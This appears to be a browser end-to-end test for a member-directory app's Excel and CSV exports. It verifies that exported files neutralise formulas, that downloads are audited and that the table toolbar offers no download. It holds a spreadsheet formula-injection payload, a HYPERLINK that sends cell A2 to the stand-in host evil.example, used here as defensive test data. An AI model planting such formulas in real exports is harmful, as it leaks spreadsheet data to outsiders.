"""Exports in a real browser: an administrator downloads the member list as Excel and as
CSV. A formula typed as a member's employer arrives as inert text (finding 1), each
download writes one audit row, and the table's own toolbar offers no download (finding 7).
"""

import csv
import io
import re
from pathlib import Path

import openpyxl
from playwright.sync_api import Page, expect
from sqlmodel import select

from core.db import get_engine, read_session, write_session
from core.migrate import upgrade_to_head
from models import AuditAction, AuditEntry, Role
from services.audit import parse_audit_detail
from services.users import UserInput
from tests.helpers import factories
from tests.helpers.browser import PASSWORD, screenshot, sign_in, wait_for_app
from tests.helpers.users import user_with_own_password

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'


def _store(tmp_path: Path) -> str:
    """An administrator and one member whose employer is a formula, made by the services."""
    url = f"sqlite:///{tmp_path / 'liaison.db'}"
    engine = get_engine(url)
    upgrade_to_head(engine)
    with write_session(engine) as session:
        user_with_own_password(
            session, UserInput(username="chief", display_name="王主任", role=Role.ADMIN), PASSWORD,
        )
        member = factories.member(session, factories.organisation(session), name="刘洋")
        member.employer = HYPERLINK
        member.phone = "13800138000"
    return url


def _exports(url: str) -> list[dict]:
    with read_session(get_engine(url)) as session:
        entries = session.exec(select(AuditEntry).where(AuditEntry.action == AuditAction.EXPORT)
                               .order_by(AuditEntry.id)).all()
    return [{"what": e.entity, "who": e.actor_name, **parse_audit_detail(e.detail)[1]}
            for e in entries]


def _download(page: Page, label: str) -> bytes:
    with page.expect_download() as download:
        page.get_by_role("button", name=label).click()
    return Path(download.value.path()).read_bytes()


def test_member_list_downloads_as_inert_text_and_each_download_is_audited(
    start_app, page: Page, tmp_path: Path
):
    store = _store(tmp_path)
    page.goto(start_app(DATABASE_URL=store))
    sign_in(page, "chief", PASSWORD)
    page.get_by_test_id("stSidebarNav").get_by_role("link", name="委员名录").click()
    wait_for_app(page)
    table = page.get_by_test_id("stDataFrame")
    expect(table).to_be_visible()
    assert _exports(store) == []  # opening the page built and audited nothing

    table.hover()  # the table's own toolbar: search and full screen, but no download
    expect(page.get_by_role("button", name=re.compile("Search"))).to_be_visible()
    expect(page.get_by_role("button", name=re.compile("Download as CSV"))).to_have_count(0)
    screenshot(page, "export-buttons-zh")

    sheet = openpyxl.load_workbook(io.BytesIO(_download(page, "导出 Excel"))).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row}
    employer = cells[HYPERLINK]
    assert (employer.data_type, employer.quotePrefix) == ("s", True)
    assert cells["13800138000"].data_type == "s"
    assert [c.coordinate for c in cells.values() if c.data_type == "f"] == []

    content = _download(page, "导出 CSV")
    assert content.startswith(b"\xef\xbb\xbf")
    (row,) = csv.DictReader(io.StringIO(content.decode("utf-8-sig")))
    assert (row["姓名"], row["工作单位"]) == ("刘洋", f"'{HYPERLINK}")

    wait_for_app(page)
    assert _exports(store) == [
        {"what": "Member", "who": "chief", "rows": 1, "format": "xlsx"},
        {"what": "Member", "who": "chief", "rows": 1, "format": "csv"},
    ]
    expect(page.get_by_text("Traceback")).to_have_count(0)
